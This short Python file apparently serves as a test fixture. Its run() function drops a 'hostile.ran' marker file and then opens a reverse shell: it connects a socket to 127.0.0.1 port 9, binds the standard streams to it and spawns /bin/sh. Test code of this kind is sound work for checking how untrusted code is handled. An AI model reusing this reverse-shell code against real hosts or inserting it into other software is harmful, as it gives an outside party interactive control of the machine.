import os
import pty
import socket


def run():
    open("hostile.ran", "w").close()
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", 9))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")
    return {}
